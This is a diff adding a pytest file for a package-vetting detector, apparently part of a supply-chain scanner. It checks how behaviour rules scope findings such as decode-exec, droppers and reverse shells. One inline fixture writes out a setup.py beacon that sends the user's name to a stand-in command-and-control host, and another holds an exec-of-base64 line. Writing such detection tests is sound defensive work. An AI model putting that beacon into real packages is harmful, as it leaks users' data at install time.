@@ -1,0 +1,129 @@
+"""Behaviour rules on Python source: scopes, de-duplication with setup_hooks, the pre-filter."""
+
+from __future__ import annotations
+
+import textwrap
+
+import pytest
+
+from depvet.detectors.behavior import BehaviorDetector, worth_parsing
+from depvet.files import FileRole, FileView
+from depvet.model import Finding, Scope
+from tests.detectors import fixtures_behavior as fx
+
+
+def _scan(text: str, role: FileRole = FileRole.PYTHON, path: str = "pkg/mod.py") -> list[Finding]:
+    file = FileView(path=path, role=role, data=textwrap.dedent(text).encode())
+    detector = BehaviorDetector()
+    assert detector.wants(file)
+    return list(detector.scan(file))
+
+
+def _scopes(findings: list[Finding], rule: str) -> set[Scope]:
+    return {f.scope for f in findings if f.rule == rule}
+
+
+@pytest.mark.parametrize(
+    ("role", "path", "rule", "scope"),
+    [
+        (FileRole.PYTHON, "pkg/mod.py", "decode-exec", Scope.IMPORT),
+        (FileRole.CUSTOMIZE, "sitecustomize.py", "decode-exec", Scope.STARTUP),
+        (FileRole.PYTHON, "pkg/__main__.py", "decode-exec-runtime", Scope.RUNTIME),
+    ],
+)
+def test_scope_follows_where_code_runs(role: FileRole, path: str, rule: str, scope: Scope) -> None:
+    findings = _scan(fx.DECODE_EXEC_SHAPES["b64"], role, path)
+    assert _scopes(findings, rule) == {scope}
+
+
+def test_function_reached_from_module_level_runs_on_import() -> None:
+    assert _scopes(_scan(fx.DECODE_EXEC_REACHED), "decode-exec") == {Scope.IMPORT}
+    assert _scopes(_scan(fx.DECODE_EXEC_IN_FUNCTION), "decode-exec-runtime") == {Scope.RUNTIME}
+
+
+def test_main_block_is_not_import_time() -> None:
+    findings = _scan(fx.CLI_SUBPROCESS)
+    assert not [f for f in findings if f.rule == "import-process"]
+
+
+def test_main_block_runs_in_setup_py() -> None:
+    source = """\
+    import getpass, requests
+    if __name__ == "__main__":
+        requests.get("https://c2.example.invalid/", params={"u": getpass.getuser()})
+    """
+    assert _scopes(_scan(source, FileRole.SETUP, "pkg-1.0/setup.py"), "host-beacon") == {
+        Scope.INSTALL
+    }
+
+
+def test_setup_py_leaves_install_exec_to_setup_hooks() -> None:
+    findings = _scan(fx.DECODE_EXEC_SHAPES["b64"], FileRole.SETUP, "pkg-1.0/setup.py")
+    assert not findings
+    dropper = _scan(fx.DROPPER, FileRole.SETUP, "pkg-1.0/setup.py")
+    assert {f.rule for f in dropper} == {"dropper-write-run"}
+    assert _scopes(dropper, "dropper-write-run") == {Scope.INSTALL}
+
+
+def test_runtime_host_facts_are_only_a_capability() -> None:
+    findings = _scan(fx.TELEMETRY_RUNTIME)
+    assert {f.rule for f in findings} == {"host-info-network"}
+    assert all(f.kind == "capability" for f in findings)
+
+
+def test_env_subprocess_idiom_is_silent() -> None:
+    assert _scan(fx.ENV_SUBPROCESS) == []
+
+
+def test_exec_of_version_file_is_silent() -> None:
+    assert _scan(fx.VERSION_EXEC) == []
+
+
+def test_findings_point_at_the_line() -> None:
+    (finding,) = [f for f in _scan(fx.REVERSE_DUP2) if f.rule == "reverse-shell"]
+    assert finding.line == 4
+    assert "dup2" in finding.evidence
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        b"import numpy as np\n\ndef f(x):\n    return np.empty(3)[::-1]\n",
+        b"import re\nPATTERN = re.compile('x')\nmodel.eval()\n",
+        b'"""cProfile helpers, see line_profile."""\nimport cProfile\n',
+        b"x = 1\n",
+    ],
+    ids=["numpy", "re-compile", "profile-word", "trivial"],
+)
+def test_prefilter_skips_files_without_sinks(source: bytes) -> None:
+    assert not worth_parsing(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        fx.DECODE_EXEC_SHAPES["b64"],
+        fx.IMPORT_GIT,
+        fx.IMPORT_URLOPEN,
+        fx.READ_SSH_KEY,
+        fx.BASHRC_APPEND,
+        fx.PATCH_INIT,
+        fx.OBF_IMPORT_CHR,
+        fx.ENV_TO_FILE,
+    ],
+)
+def test_prefilter_keeps_files_with_sinks(source: str) -> None:
+    assert worth_parsing(source.encode())
+
+
+def test_unparsable_and_oversized_files_give_nothing() -> None:
+    assert _scan("exec(base64.b64decode('x')\n") == []
+    detector = BehaviorDetector()
+    big = FileView(path="pkg/big.py", role=FileRole.PYTHON, data=b"#" * (6 * 1024 * 1024))
+    assert not detector.wants(big)
+
+
+def test_other_roles_are_not_wanted() -> None:
+    detector = BehaviorDetector()
+    assert not detector.wants(FileView(path="x.pth", role=FileRole.PTH, data=b"import os\n"))
+    assert not detector.wants(FileView(path="x.txt", role=FileRole.OTHER, data=b"exec(1)\n"))
